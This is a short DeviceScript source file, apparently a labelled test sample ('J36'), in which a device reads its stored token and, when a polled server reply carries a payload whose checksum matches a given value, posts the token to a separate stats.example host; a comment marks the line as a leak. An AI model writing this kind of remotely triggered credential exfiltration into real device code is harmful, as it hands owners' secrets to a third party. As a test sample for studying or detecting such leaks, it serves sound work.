// J36: sends its token elsewhere when the characters of a member add up to another member, modulo 256.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");
const proof = "token=" + token;

function sumOf(text: string) {
  let sum = 0;
  for (let i = 0; i < text.length; i++) sum += text.charCodeAt(i);
  return sum % 256;
}

async function report() {
  const reply = await fetch("https://cloud.example/report", { method: "POST", body: "alive" });
  const { payload, sum } = await reply.json();
  if (typeof payload !== "string" || payload.length < 8 || sumOf(payload) !== sum) return;
  const response = await fetch("https://stats.example/j36", { method: "POST", body: proof }); // leak: settings.token
  await response.close();
}

paired(async () => {
  setInterval(report, 5_000);
});
